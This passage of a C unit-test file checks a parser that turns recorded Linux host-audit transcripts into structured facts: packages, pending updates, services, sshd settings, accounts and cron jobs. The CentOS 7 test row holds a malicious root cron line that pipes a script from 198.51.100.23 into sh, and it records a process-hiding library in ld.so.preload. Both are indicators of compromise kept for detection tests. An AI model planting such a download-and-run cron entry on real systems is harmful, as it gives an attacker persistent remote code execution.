				   SEC("accounts", PASSWD) SEC("services", "ssh.service enabled enabled\n")
				   SEC("sshd", "permitrootlogin no\n"));
	assert_string_equal(facts_package_find(f, "openssl")->version, "3.0.11-1~deb12u2");
	assert_null(facts_package_find(f, "nginx"));
	assert_true(facts_component_find(f, "openssl")->installed);
	assert_false(facts_component_find(f, "zsh")->installed);
	assert_null(facts_component_find(f, "nope"));
	assert_int_equal(facts_account_find(f, "toor")->uid, 0);
	assert_null(facts_account_find(f, "nobody"));
	assert_true(facts_service_find(f, "ssh")->enabled);
	assert_null(facts_service_find(f, "sshd"));
	assert_string_equal(facts_sshd_get(f, "permitrootlogin"), "no");
	assert_null(facts_sshd_get(f, "port"));
	facts_free(f);
}

static void test_component_table(void **state)
{
	(void)state;
	/* the clause 1.3 list of the brief, each with package names for debian and rhel */
	static const char *const names[] = {
		"grub", "kernel", "initramfs", "sysvinit", "systemd", "glibc", "openssl", "gnutls", "openjdk",
		"libxml2", "libgd", "libpng", "zlib", "python", "krb5", "cups", "fuse", "dbus", "openssh",
		"sshfs", "bash", "zsh", "dash", "wget", "curl", "tar", "gzip", "sudo", "ppp", "rsync", "exim",
		"apt", "dpkg", "rpm", "yum", "dnf",
	};
	size_t n = 0;
	for (const struct facts_component_def *d = facts_components; d->name; d++, n++) {
		assert_true(n < ARRAY_SIZE(names));
		assert_string_equal(d->name, names[n]);
		assert_non_null(d->debian);
		assert_non_null(d->rhel);
		assert_non_null(d->suse);
		assert_non_null(d->alpine);
		if (strcmp(d->name, "rpm") && strcmp(d->name, "yum") && strcmp(d->name, "dnf"))
			assert_non_null(d->debian[0]);
		if (strcmp(d->name, "apt") && strcmp(d->name, "dpkg") && strcmp(d->name, "dash"))
			assert_non_null(d->rhel[0]);
	}
	assert_int_equal(n, ARRAY_SIZE(names));
	/* family decides: debian's openssl names do not count on rhel */
	struct facts *f = facts_of(SEC("os-release", "ID=rocky\n") SEC("packages", "libssl3\t3.0\tx86_64\tii\nopenssl-libs\t1:3.0.7\tx86_64\tii\n"));
	const struct facts_component *c = facts_component_find(f, "openssl");
	assert_int_equal(c->packages.n, 1);
	assert_string_equal(c->packages.v[0].name, "openssl-libs");
	facts_free(f);
}

struct vercmp_row {
	const char *a, *b;
	int want;
};

static void test_vercmp(void **state)
{
	static const struct vercmp_row rows[] = {
		{ "1.0", "1.0", 0 }, { "1.0", "1.1", -1 }, { "1.10", "1.9", 1 }, { "1.0~rc1", "1.0", -1 },
		{ "1:1.0", "2.0", 1 }, { "0:1.0", "1.0", 0 }, { "1.0-2", "1.0-10", -1 }, { "1.0a", "1.0", 1 },
		{ "6.1.0-18-amd64", "6.1.0-9-amd64", 1 }, { "5.14.0-362.13.1.el9_3.x86_64", "5.14.0-362.8.1.el9_3.x86_64", 1 },
		{ "", "", 0 }, { "", "1", -1 }, { "a", "b", -1 }, { "1.0.0", "1.0", 1 }, { "007", "7", 0 },
		{ "x:1", "1", 1 }, { "99999999999999999999", "1", 1 }, { "1:", "1", 1 },
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		int got = facts_vercmp(rows[i].a, rows[i].b), back = facts_vercmp(rows[i].b, rows[i].a);
		if (got != rows[i].want || back != -rows[i].want) {
			print_error("vercmp('%s', '%s') = %d (reverse %d), want %d\n", rows[i].a, rows[i].b, got, back,
				    rows[i].want);
			fail();
		}
	}
}

static void test_strndup_sanitises(void **state)
{
	static const struct { const char *in; size_t len; const char *want; } rows[] = {
		{ "plain", 5, "plain" },
		{ "a\0b", 3, "a?b" },
		{ "\xc3\xa9t\xc3\xa9", 5, "\xc3\xa9t\xc3\xa9" },
		{ "\xff\xfe", 2, "??" },
		{ "\xc3", 1, "?" },                 /* truncated sequence */
		{ "\xe2\x82\xac", 3, "\xe2\x82\xac" }, /* euro sign */
		{ "\xe0\x80\x80", 3, "???" },       /* overlong */
		{ "\xed\xa0\x80", 3, "???" },       /* surrogate */
		{ "\xf4\x90\x80\x80", 4, "????" },  /* beyond U+10FFFF */
		{ "\xf0\x9f\x98\x80", 4, "\xf0\x9f\x98\x80" },
		{ "\x01\x1b[31m", 6, "\x01\x1b[31m" }, /* control characters stay (JSON escapes them) */
	};
	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		char *got = facts_strndup(rows[i].in, rows[i].len);
		assert_string_equal(got, rows[i].want);
		free(got);
	}
}

static void test_numbers_and_splits(void **state)
{
	const char *a, *b;
	size_t an, bn;
	(void)state;
	assert_int_equal(facts_num("0", 1), 0);
	assert_int_equal(facts_num("9007199254740991", 16), 9007199254740991LL);
	assert_int_equal(facts_num("9007199254740992", 16), -1);
	assert_int_equal(facts_num("", 0), -1);
	assert_int_equal(facts_num("-1", 2), -1);
	assert_int_equal(facts_num("1 ", 2), -1);
	assert_int_equal(facts_num("12345678901234567", 17), -1);
	assert_true(facts_split("k=v=w", 5, '=', &a, &an, &b, &bn));
	assert_int_equal(an, 1);
	assert_int_equal(bn, 3);
	assert_false(facts_split("kv", 2, '=', &a, &an, &b, &bn));
	assert_false(facts_split("", 0, '=', &a, &an, &b, &bn));
	const char *w[3];
	size_t wl[3];
	assert_int_equal(facts_words("  a \t bb  c d", 13, w, wl, 3), 3);
	assert_int_equal(wl[1], 2);
	assert_int_equal(facts_words("   ", 3, w, wl, 3), 0);
	assert_int_equal(facts_cut("a\tb\tc\td", 7, '\t', w, wl, 3), 3);
	assert_int_equal(wl[2], 3); /* the last field takes the rest */
	assert_int_equal(facts_cut("", 0, '\t', w, wl, 3), 1);
}

/* Truncated transcripts: every prefix frames and parses, and says what ended early. */
static void test_truncation(void **state)
{
	static const char body[] = SEC("os-release", DEBIAN12) TOOLS_APT
		SEC("packages", "openssl\t3.0.11-1~deb12u2\tamd64\tii \n") SEC("accounts", PASSWD SHADOW)
		SEC("sshd", "permitrootlogin no\n");
	(void)state;
	struct strbuf sb = STRBUF_INIT;
	strbuf_addstr(&sb, HDR);
	strbuf_addstr(&sb, body);
	strbuf_addstr(&sb, M "done\n");
	for (size_t cut = strlen(HDR); cut <= sb.len; cut++) {
		struct gather g;
		struct facts *f = NULL;
		gather_init(&g);
		assert_int_equal(gather_parse(&g, sb.buf, cut, NULL, NULL), 0);
		facts_from_gather(&g, &f);
		char *j = facts_to_json(f);
		assert_non_null(j);
		if (cut < sb.len - 1)
			assert_true(f->warnings.n > 0);
		else
			assert_int_equal(f->warnings.n, 0);
		free(j);
		facts_free(f);
		gather_release(&g);
	}
	strbuf_release(&sb);
	/* a section that did not end is named in the warnings */
	struct facts *f = facts_of_len(M "begin sshd\nport 22\n", strlen(M "begin sshd\nport 22\n"));
	assert_non_null(f);
	assert_string_equal(f->warnings.v[0], "section 'sshd' did not end");
	assert_false(f->sshd.src.complete);
	assert_int_equal(f->sshd.src.status, -1);
	facts_free(f);
}

static void test_release(void **state)
{
	(void)state;
	struct facts f;
	facts_init(&f);
	facts_release(&f);
	facts_release(&f);
	facts_release(NULL);
	facts_free(NULL);
	facts_strs_release(NULL);
	facts_obj_release(facts_fields, NULL);
}

/* Hostile sizes: lists stop at FACTS_MAX_ITEMS and count the rest as skipped. */
static void test_caps(void **state)
{
	(void)state;
	struct strbuf sb = STRBUF_INIT;
	const size_t over = FACTS_MAX_ITEMS + 100;

	strbuf_addstr(&sb, M "begin services\n");
	for (size_t i = 0; i < over; i++)
		strbuf_addf(&sb, "s%zu.service enabled enabled\n", i);
	strbuf_addstr(&sb, M "end services 0\n" M "begin processes\n");
	for (size_t i = 0; i < over; i++)
		strbuf_addf(&sb, "%zu\t0\tx\t/x\n", i + 1);
	strbuf_addstr(&sb, M "end processes 0\n" M "begin kernels\n");
	for (size_t i = 0; i < 2000; i++)
		strbuf_addf(&sb, "/boot/vmlinuz-%zu.0\n", i);
	strbuf_addstr(&sb, M "end kernels 0\n" M "begin sources\n" M "file /etc/yum.repos.d/a.repo\n[a]\nbaseurl=http://a/\n");
	for (size_t i = 0; i < 20000; i++)
		strbuf_addstr(&sb, "  http://b.example/path/\n");
	strbuf_addstr(&sb, M "end sources 0\n" M "begin sshd\nInclude /a/*\n");
	for (size_t i = 0; i < 300; i++)
		strbuf_addf(&sb, M "file /a/%zu\nInclude /a/*\nPort %zu\n", i, i);
	strbuf_addstr(&sb, M "end sshd 1\n" M "begin cron\n" M "file /etc/crontab\n");
	for (size_t i = 0; i < over; i++)
		strbuf_addstr(&sb, "* * * * * root x\n");
	strbuf_addstr(&sb, M "end cron 0\n");

	struct facts *f = facts_of_len(sb.buf, sb.len);
	assert_non_null(f);
	assert_int_equal(f->services.list.n, FACTS_MAX_ITEMS);
	assert_int_equal(f->services.src.skipped, 100);
	assert_int_equal(f->processes.list.n, FACTS_MAX_ITEMS);
	assert_int_equal(f->processes.src.skipped, 100);
	assert_int_equal(f->kernels.installed.n, 1024);
	assert_int_equal(f->kernels.src.skipped, 2000 - 1024);
	assert_string_equal(f->kernels.newest, "1023.0"); /* the first 1024 are kept */
	assert_int_equal(f->sources.repos.n, 1);
	assert_true(strlen(f->sources.repos.v[0].uris) >= FACTS_MAX_JOINED);
	assert_true(strlen(f->sources.repos.v[0].uris) < FACTS_MAX_JOINED + 1024);
	/* 256 included files at most, however they include each other */
	const struct facts_sshd_option *port = NULL;
	for (size_t i = 0; i < f->sshd.options.n; i++)
		if (!strcmp(f->sshd.options.v[i].key, "port"))
			port = &f->sshd.options.v[i];
	assert_non_null(port);
	assert_true(port->values.n <= 256);
	assert_int_equal(f->cron.files.v[0].lines.n, FACTS_MAX_ITEMS);
	assert_int_equal(f->cron.entries.n, FACTS_MAX_ITEMS);
	assert_int_equal(f->cron.src.skipped, 100);
	char *j = facts_to_json(f);
	assert_non_null(j);
	free(j);
	facts_free(f);
	strbuf_release(&sb);
}

static void test_index(void **state)
{
	(void)state;
	struct facts_index ix;
	char keys[1000][8];
	facts_index_init(&ix);
	assert_int_equal(facts_index_get(&ix, "a", 1), FACTS_NONE);
	for (size_t i = 0; i < 1000; i++) {
		snprintf(keys[i], sizeof(keys[i]), "k%zu", i);
		assert_int_equal(facts_index_put(&ix, keys[i], i), i);
	}
	assert_int_equal(facts_index_put(&ix, "k5", 77), 5); /* present: kept */
	for (size_t i = 0; i < 1000; i++)
		assert_int_equal(facts_index_get(&ix, keys[i], strlen(keys[i])), i);
	assert_int_equal(facts_index_get(&ix, "k1000", 5), FACTS_NONE);
	assert_int_equal(facts_index_get(&ix, "k1", 1), FACTS_NONE); /* "k" */
	assert_int_equal(facts_index_get(&ix, "k10", 2), 1);        /* "k1" */
	facts_index_release(&ix);
	facts_index_release(&ix);
	facts_index_release(NULL);
}

/* ---- the recorded transcripts (tests/data/transcripts) ---- */

/*
 * One row per recorded transcript. The values were read from the transcript
 * text itself (os-release, dpkg/rpm lines, apt-cache policy entries, passwd
 * and shadow lines, /proc/net rows, sshd -T output), not copied from the
 * parser's output.
 */
struct transcript_row {
	const char *file;
	size_t min_packages;
	const char *uid0;      /* names of the uid-0 accounts, in passwd order */
	const char *empty_pw;  /* accounts with an empty password, in passwd order */
	const char *bad_procs; /* "pid:comm" of processes run from a deleted or temporary file */
	const char *enabled;   /* services that must be enabled at boot */
	const char *ports;     /* listening "proto/port", in order, without repeats */
	const char *third;     /* "name=version" of the third-party programs, in order */
	const char *expect[64];
};

static const struct transcript_row transcript_rows[] = {
	{ "debian-12.txt", 120, "root", "", "", "cron,ssh,sudo", "tcp/2222", "",
	  { "os.id => \"debian\"", "os.family => \"debian\"", "os.version_id => \"12\"", "os.codename => \"bookworm\"",
	    "uname.machine => \"x86_64\"", "uname.release => \"6.18.44-fc-v782\"", "packages.manager => \"apt\"",
	    "packages.list# => 127", "updates.count => 17", "updates.security_count => 17",
	    "updates.list{name=openssl} => {\"name\":\"openssl\",\"version\":\"3.0.22-1~deb12u2\",\"current\":\"3.0.20-1~deb12u2\",\"arch\":\"amd64\",\"origin\":\"bookworm-security/main\",\"security\":true}",
	    "updates.list{name=ca-certificates}.version => \"20250419~deb12u2\"",
	    "components.list{name=openssl}.packages{name=libssl3}.version => \"3.0.20-1~deb12u2\"",
	    "components.list{name=openssl}.security => true",
	    "components.list{name=glibc}.packages{name=libc6}.version => \"2.36-9+deb12u14\"",
	    "components.list{name=glibc}.update => false",
	    "components.list{name=openssh}.packages{name=openssh-server}.version => \"1:9.2p1-2+deb12u10\"",
	    "components.list{name=sudo}.packages{name=sudo}.version => \"1.9.13p3-1+deb12u4\"",
	    "components.list{name=apt}.security => true", "components.list{name=kernel}.installed => false",
	    "components.list{name=bash}.packages{name=bash}.version => \"5.2.15-2+b13\"",
	    "kernels.installed => []", "reboot.required => false", "reboot.kernel_pending => null",
	    "lists.age => 1785", "services.init => \"sysvinit\"", "listening.tool => \"proc\"",
	    "listening.list[0].address => \"10.213.0.2\"", "sshd.effective => true",
	    "sshd.options{key=permitrootlogin}.values => [\"without-password\"]",
	    "sshd.options{key=passwordauthentication}.values => [\"no\"]",
	    "accounts.shadow => true", "accounts.list# => 20", "accounts.list{name=builder}.password => \"locked\"",
	    "authorized_keys.list# => 2", "authorized_keys.list[1].path => \"/home/builder/.ssh/authorized_keys\"",
	    "host_keys.paths# => 6", "histories.list => []", "machine_id.etc_state => \"set\"",
	    "machine_id.dbus_state => \"absent\"", "cloud_init.present => false", "cloud_init.boot_finished => false",
	    "ld_so_preload.present => false", "sources.repos# => 2", "sources.repos[1].suites => \"bookworm-security\"",
	    "cron.entries# => 8", "third_party.list => []", "refresh.src => null", "warnings => []", NULL } },
	{ "ubuntu-22.04.txt", 120, "root", "deploy", "", "ssh,cron,nginx,node-app,cloud-init,apport,unattended-upgrades",
	  "udp/53,udp/68,tcp/80,tcp/53,tcp/22,tcp/3000", "node=16.20.2,nginx=1.18.0",
	  { "os.id => \"ubuntu\"", "os.family => \"debian\"", "os.version_id => \"22.04\"", "os.codename => \"jammy\"",
	    "os.id_like => \"debian\"", "uname.machine => \"x86_64\"", "uname.release => \"5.15.0-107-generic\"",
	    "packages.manager => \"apt\"", "packages.list# => 133", "packages.list{name=linux-image-5.15.0-105-generic} => <missing>",
	    "updates.count => 11", "updates.security_count => 9", "refresh.src.status => 0",
	    "updates.list{name=cloud-init}.security => false", "updates.list{name=snapd}.security => false",
	    "updates.list{name=openssh-server} => {\"name\":\"openssh-server\",\"version\":\"1:8.9p1-3ubuntu0.10\",\"current\":\"1:8.9p1-3ubuntu0.7\",\"arch\":\"amd64\",\"origin\":\"jammy-updates/main, jammy-security/main\",\"security\":true}",
	    "components.list{name=openssl}.packages{name=openssl} => {\"name\":\"openssl\",\"version\":\"3.0.2-0ubuntu1.15\",\"update\":\"3.0.2-0ubuntu1.16\",\"security\":true}",
	    "components.list{name=kernel}.packages{name=linux-image-5.15.0-112-generic}.version => \"5.15.0-112.122\"",
	    "components.list{name=kernel}.packages{name=linux-image-generic}.update => \"5.15.0.113.113\"",
	    "components.list{name=kernel}.packages# => 3", "components.list{name=kernel}.security => true",
	    "components.list{name=glibc}.packages{name=libc6}.version => \"2.35-0ubuntu3.8\"",
	    "components.list{name=glibc}.update => false", "components.list{name=zsh}.installed => false",
	    "components.list{name=python}.packages{name=python3.10}.version => \"3.10.12-1~22.04.3\"",
	    "kernels.installed => [\"5.15.0-112-generic\",\"5.15.0-107-generic\"]",
	    "reboot.required_file => true", "reboot.packages => [\"linux-image-5.15.0-112-generic\",\"linux-base\"]",
	    "reboot.kernel_pending => true", "reboot.required => true", "lists.age => 2",
	    "services.init => \"systemd\"", "services.list{name=rsync}.enabled => false",
	    "services.list{name=sudo}.enabled => false", "services.list{name=sshd}.enabled => false",
	    "listening.tool => \"ss\"", "listening.list[0].address => \"127.0.0.53%lo\"",
	    "listening.list[5] => {\"proto\":\"tcp\",\"address\":\"*\",\"port\":3000,\"process\":\"node\",\"pid\":1190}",
	    "sshd.options{key=permitrootlogin}.values => [\"without-password\"]",
	    "sshd.options{key=passwordauthentication}.values => [\"no\"]",
	    "accounts.list{name=deploy}.uid => 1002", "accounts.list{name=lxd}.max => null",
	    "authorized_keys.list{path=/home/deploy/.ssh/authorized_keys}.mode => \"664\"",
	    "authorized_keys.list{path=/home/ubuntu/.ssh/authorized_keys}.types => [\"ssh-ed25519\",\"ssh-rsa\"]",
	    "histories.list# => 6", "histories.list{path=/root/.bash_history}.size => 2817",
	    "cloud_init.present => true", "cloud_init.status => \"done\"", "cloud_init.boot_finished => true",
	    "cloud_init.instances => 1", "machine_id.etc_state => \"set\"", "sources.repos# => 10",
	    "sources.repos[9] => {\"file\":\"/etc/apt/sources.list\",\"kind\":\"apt\",\"id\":null,\"types\":\"deb\",\"uris\":\"http://security.example.org/ubuntu\",\"mirrorlist\":null,\"suites\":\"jammy-security\",\"components\":\"multiverse\",\"enabled\":true}",
	    "cron.entries{file=/var/spool/cron/crontabs/app}.line => \"*/5 * * * * /usr/local/bin/node /srv/app/bin/cleanup.js >/dev/null 2>&1\"",
	    "processes.list{comm=node}.user => \"app\"", "processes.list{comm=node}.exe => \"/usr/local/bin/node\"",
	    "warnings => []", NULL } },
	{ "debian-8.txt", 110, "root", "", "", "ssh,cron,apache2,mysql,exim4,rsyslog",
	  "tcp/3306,tcp/22,tcp/25,tcp/80,udp/68,udp/21613,udp/17402", "mysqld=5.5.62,apache2=2.4.10,php=5.6.40",
	  { "os.id => \"debian\"", "os.family => \"debian\"", "os.version_id => \"8\"", "os.codename => \"jessie\"",
	    "uname.release => \"3.16.0-10-amd64\"", "packages.manager => \"apt\"", "packages.list# => 115",
	    "updates.count => 14", "updates.security_count => 14",
	    "updates.list{name=sudo} => {\"name\":\"sudo\",\"version\":\"1.8.10p3-1+deb8u7\",\"current\":\"1.8.10p3-1+deb8u6\",\"arch\":\"amd64\",\"origin\":\"jessie/updates/main\",\"security\":true}",
	    "components.list{name=openssl}.packages{name=libssl1.0.0}.update => \"1.0.1t-1+deb8u12\"",
	    "components.list{name=kernel}.packages{name=linux-image-3.16.0-10-amd64}.update => \"3.16.81-1\"",
	    "components.list{name=kernel}.packages{name=linux-image-3.16.0-7-amd64} => <missing>",
	    "components.list{name=exim}.installed => true",
	    "kernels.installed => [\"3.16.0-10-amd64\",\"3.16.0-9-amd64\"]", "reboot.kernel_pending => false",
	    "reboot.required => false", "lists.age => 46511", "refresh.src => null",
	    "services.init => \"systemd\"", "services.list{name=apache2}.systemd_state => \"disabled\"",
	    "services.list{name=apache2}.sysv_runlevels => \"2345\"", "services.list{name=console-getty}.enabled => false",
	    "listening.tool => \"netstat\"", "listening.list[3] => {\"proto\":\"tcp\",\"address\":\"::\",\"port\":80,\"process\":\"apache2\",\"pid\":530}",
	    "sshd.options{key=permitrootlogin}.values => [\"yes\"]", "accounts.list{name=root}.password => \"set\"",
	    "machine_id.etc => \"c3f5a1e9b7d24f8e9a0b1c2d3e4f5a6b\"", "machine_id.dbus => \"8a4d0e2f6b1c3a5e7d9f0b2c4e6a8c0e\"",
	    "cloud_init.present => true", "cloud_init.status => null", "cloud_init.src.status => 2",
	    "cloud_init.boot_finished => true", "histories.list{path=/root/.mysql_history}.size => 3312",
	    "host_keys.paths# => 8", "sources.repos# => 4", "sources.repos[2].suites => \"jessie/updates\"",
	    "cron.entries{file=/var/spool/cron/crontabs/www-data}.line => \"*/5 * * * * php /var/www/html/cron.php > /dev/null 2>&1\"",
	    "warnings => []", NULL } },
	{ "centos-7.txt", 130, "root", "", "", "sshd,nginx,php-fpm,tomcat,crond,network",
	  "udp/323,udp/68,tcp/9000,tcp/80,tcp/22,tcp/25,tcp/8080,tcp/8005",
	  "php-fpm=7.4.33,nginx=1.20.1,php=7.4.33,java=1.8.0,tomcat=8.5.99",
	  { "os.id => \"centos\"", "os.family => \"rhel\"", "os.version_id => \"7\"", "os.codename => null",
	    "os.src.section => \"os-release\"", "uname.release => \"3.10.0-1160.108.1.el7.x86_64\"",
	    "packages.manager => \"yum\"", "packages.list# => 138", "packages.list{name=gpg-pubkey} => <missing>",
	    "packages.list{name=openssl}.version => \"1:1.0.2k-26.el7_9\"",
	    "updates.count => 21", "updates.src.status => 100", "updates.security_count => 0",
	    "updates.security_src.status => 0", "updates.advisories => []",
	    "updates.list{name=bind-export-libs} => {\"name\":\"bind-export-libs\",\"version\":\"32:9.11.4-26.P2.el7_9.16\",\"current\":\"32:9.11.4-26.P2.el7_9.15\",\"arch\":\"x86_64\",\"origin\":\"updates\",\"security\":false}",
	    "updates.list{name=glibc}.current => \"2.17-326.el7_9\"",
	    "components.list{name=glibc}.packages{name=glibc}.update => \"2.17-326.el7_9.3\"",
	    "components.list{name=kernel}.packages# => 2",
	    "components.list{name=kernel}.packages[0].version => \"3.10.0-1160.el7\"",
	    "components.list{name=kernel}.packages[1] => {\"name\":\"kernel\",\"version\":\"3.10.0-1160.108.1.el7\",\"update\":\"3.10.0-1160.114.2.el7\",\"security\":false}",
	    "components.list{name=openssl}.packages{name=openssl-libs}.version => \"1:1.0.2k-26.el7_9\"",
	    "components.list{name=openssl}.update => false", "components.list{name=openjdk}.installed => true",
	    "kernels.installed => [\"3.10.0-1160.108.1.el7.x86_64\",\"3.10.0-1160.el7.x86_64\"]",
	    "kernels.newest => \"3.10.0-1160.108.1.el7.x86_64\"", "reboot.needs_restarting => 0",
	    "reboot.kernel_pending => false", "reboot.required => false", "lists.age => 8",
	    "services.init => \"systemd\"", "services.list{name=network}.systemd_state => null",
	    "services.list{name=netconsole}.enabled => false", "services.list{name=firewalld}.enabled => false",
	    "listening.tool => \"ss\"", "listening.list[8].address => \"::ffff:127.0.0.1\"",
	    "sshd.options{key=permitrootlogin}.values => [\"yes\"]",
	    "sshd.options{key=passwordauthentication}.values => [\"yes\"]",
	    "accounts.list{name=root}.password => \"set\"",
	    "ld_so_preload.present => true", "ld_so_preload.entries => [\"/usr/local/lib/libprocesshider.so\"]",
	    "cron.entries{file=/var/spool/cron/root}.line => \"*/10 * * * * (curl -fsSL http://198.51.100.23/ldr.sh || wget -q -O- http://198.51.100.23/ldr.sh) | sh\"",
	    "cron.files{path=/etc/anacrontab}.listing => false",
	    "sources.repos# => 8", "sources.repos{id=centosplus}.enabled => false",
	    "sources.repos{id=base}.uris => \"http://centos.example.org/centos/$releasever/os/$basearch/\"",
	    "sources.repos{id=epel}.mirrorlist => null",
	    "cloud_init.status => \"done\"", "machine_id.etc => \"20200914151306980406746494236010\"",
	    "warnings => []", NULL } },
	{ "rocky-9.txt", 110, "root,sysadm", "", "", "sshd,mysqld,redis,crond,cloud-init",
	  "udp/323,tcp/6379,tcp/22,tcp/33060,tcp/3306", "redis-server=6.2.7",
	  { "os.id => \"rocky\"", "os.family => \"rhel\"", "os.version_id => \"9.4\"", "os.version => \"9.4 (Blue Onyx)\"",
	    "uname.release => \"5.14.0-427.13.1.el9_4.x86_64\"", "packages.manager => \"dnf\"", "packages.list# => 119",
	    "updates.count => 15", "updates.security_count => 10", "updates.advisories# => 13",
	    "updates.list{name=tzdata}.security => false", "updates.list{name=NetworkManager}.version => \"1:1.46.0-13.el9_4\"",
	    "updates.list{name=openssh-server} => {\"name\":\"openssh-server\",\"version\":\"8.7p1-38.el9_4.4\",\"current\":\"8.7p1-38.el9\",\"arch\":\"x86_64\",\"origin\":\"baseos\",\"security\":true}",
	    "updates.advisories[6] => {\"id\":\"RLSA-2024:5101\",\"severity\":\"Important\",\"package\":\"kernel\",\"summary\":null}",
	    "components.list{name=openssh}.security => true",
	    "components.list{name=krb5}.packages{name=krb5-libs}.update => \"1.21.1-2.el9_4.1\"",
	    "components.list{name=openssl}.packages{name=openssl-libs}.version => \"1:3.0.7-27.el9\"",
	    "components.list{name=openssl}.update => false",
	    "kernels.installed => [\"5.14.0-427.24.1.el9_4.x86_64\",\"5.14.0-427.13.1.el9_4.x86_64\"]",
	    "reboot.needs_restarting => 1", "reboot.kernel_pending => true", "reboot.required => true",
	    "lists.age => 3534", "services.init => \"systemd\"",
	    "sshd.options{key=permitrootlogin}.values => [\"yes\"]",
	    "accounts.list{name=sysadm} => {\"name\":\"sysadm\",\"uid\":0,\"gid\":0,\"home\":\"/home/sysadm\",\"shell\":\"/bin/bash\",\"password\":\"set\",\"lastchg\":19954,\"max\":99999,\"expire\":null}",
	    "authorized_keys.list{path=/home/sysadm/.ssh/authorized_keys} => {\"path\":\"/home/sysadm/.ssh/authorized_keys\",\"uid\":0,\"mode\":\"644\",\"count\":3,\"types\":[\"ecdsa-sha2-nistp256\",\"ssh-rsa\"]}",
	    "listening.list{process=redis-server}.address => \"0.0.0.0\"",
	    "sources.repos# => 5", "sources.repos{id=crb}.enabled => false",
	    "sources.repos{id=baseos}.mirrorlist => \"https://mirrors.example.org/mirrorlist?arch=$basearch&repo=BaseOS-$releasever$rltype\"",
	    "cloud_init.status => \"done\"", "warnings => []", NULL } },
	{ "alinux-3.txt", 70, "root", "", "", "aegis,sshd,nginx,node-web,aliyun",
	  "udp/323,tcp/80,tcp/22,tcp/3000", "nginx=1.20.1,node=18.20.3",
	  { "os.id => \"alinux\"", "os.family => \"rhel\"", "os.version_id => \"3\"",
	    "os.name => \"Alibaba Cloud Linux 3 (Soaring Falcon)\"", "uname.release => \"5.10.134-16.3.al8.x86_64\"",
	    "packages.manager => \"dnf\"", "packages.list# => 78",
	    "updates.count => 13", "updates.security_count => 10", "updates.advisories# => 10",
	    "updates.list{name=glibc}.security => false", "updates.list{name=openssl}.version => \"1:1.1.1k-12.0.1.al8\"",
	    "updates.list{name=openssl}.current => \"1:1.1.1k-9.0.1.al8\"",
	    "components.list{name=openssl}.security => true", "components.list{name=glibc}.security => false",
	    "components.list{name=glibc}.update => true",
	    "kernels.newest => \"5.10.134-16.3.al8.x86_64\"", "reboot.kernel_pending => false",
	    "reboot.needs_restarting => null", "reboot.required => false", "lists.age => 2",
	    "services.list{name=aegis} => {\"name\":\"aegis\",\"systemd_state\":null,\"sysv_runlevels\":\"2345\",\"enabled\":true}",
	    "processes.list{comm=AliYunDun}.exe => \"/usr/local/aegis/aegis_client/aegis_12_05/AliYunDun\"",
	    "processes.list{comm=AliYunDunUpdate}.user => \"root\"", "processes.list{comm=AliYunDunMonito}.pid => 1262",
	    "sshd.options{key=permitrootlogin}.values => [\"yes\"]",
	    "machine_id.etc => \"\"", "machine_id.etc_state => \"empty\"", "machine_id.dbus_state => \"absent\"",
	    "histories.list => []", "cloud_init.instances => 2", "warnings => []", NULL } },
	{ "centos-6.txt", 80, "root", "", "", "sshd,httpd,mysqld,crond,postfix",
	  "tcp/3306,tcp/22,tcp/25,tcp/80,udp/68", "httpd=2.2.15,php=5.3.3",
	  { "os.src.section => \"redhat-release\"", "os.id => \"centos\"", "os.family => \"rhel\"",
	    "os.version_id => \"6.10\"", "os.name => \"CentOS release 6.10 (Final)\"",
	    "uname.release => \"2.6.32-754.10.1.el6.x86_64\"", "packages.manager => \"yum\"", "packages.list# => 88",
	    "updates.count => 9", "updates.security_count => null", "updates.security_src.status => 1",
	    "updates.list{name=kernel}.version => \"2.6.32-754.11.1.el6\"",
	    "components.list{name=glibc}.packages{name=glibc}.update => \"2.12-1.212.el6_10.3\"",
	    "components.list{name=openssl}.packages{name=openssl}.version => \"1.0.1e-57.el6\"",
	    "kernels.newest => \"2.6.32-754.10.1.el6.x86_64\"", "reboot.needs_restarting => 2",
	    "reboot.kernel_pending => false", "reboot.required => false",
	    "services.init => \"sysvinit\"", "services.src.status => 127",
	    "services.list{name=mysqld}.sysv_runlevels => \"345\"", "services.list{name=smartd}.enabled => false",
	    "listening.tool => \"netstat\"", "sshd.effective => false", "sshd.src.status => 1",
	    "sshd.options{key=permitrootlogin}.values => [\"yes\"]",
	    "sshd.options{key=acceptenv}.values# => 4", "sshd.options{key=subsystem}.values => [\"sftp\\t/usr/libexec/openssh/sftp-server\"]",
	    "sshd.options{key=port} => <missing>",
	    "machine_id.etc_state => \"absent\"", "machine_id.dbus_state => \"set\"",
	    "cloud_init.present => true", "cloud_init.status => null", "refresh.src => null", "warnings => []", NULL } },
	{ "opensuse-leap-15.txt", 70, "root", "", "1133:nscd", "sshd,apache2,mariadb,cron,nscd",
	  "udp/323,udp/68,tcp/22,tcp/3306,tcp/80", "mysqld=10.6.18,mariadbd=10.6.18,httpd=2.4.51",
	  { "os.id => \"opensuse-leap\"", "os.family => \"suse\"", "os.version_id => \"15.5\"",
	    "uname.release => \"5.14.21-150500.55.65-default\"", "packages.manager => \"zypper\"", "packages.list# => 75",
	    "updates.count => 12", "updates.security_count => 9", "updates.advisories# => 4",
	    "updates.list{name=libopenssl1_1} => {\"name\":\"libopenssl1_1\",\"version\":\"1.1.1l-150500.17.31.1\",\"current\":\"1.1.1l-150500.17.28.1\",\"arch\":\"x86_64\",\"origin\":\"Update repository with updates from SUSE Linux Enterprise 15\",\"security\":true}",
	    "updates.list{name=kernel-default}.security => true", "updates.list{name=libzypp}.security => false",
	    "updates.list{name=vim}.security => false",
	    "updates.advisories[0] => {\"id\":\"openSUSE-SLE-15.5-2024-2274\",\"severity\":\"important\",\"package\":null,\"summary\":\"Security update for the Linux Kernel\"}",
	    "components.list{name=openssl}.security => true",
	    "components.list{name=kernel}.packages# => 2", "components.list{name=zlib}.installed => true",
	    "kernels.installed => [\"5.14.21-150500.55.65-default\",\"5.14.21-150500.55.59-default\"]",
	    "reboot.kernel_pending => false", "reboot.required => false", "lists.age => 7",
	    "services.list{name=wickedd}.enabled => false", "services.list{name=haveged}.enabled => false",
	    "processes.list{pid=1133} => <missing>",
	    "processes.list{comm=nscd} => {\"pid\":1133,\"uid\":490,\"user\":\"nscd\",\"comm\":\"nscd\",\"exe\":\"/usr/sbin/nscd\",\"deleted\":true,\"in_tmp\":false}",
	    "sshd.options{key=permitrootlogin}.values => [\"yes\"]",
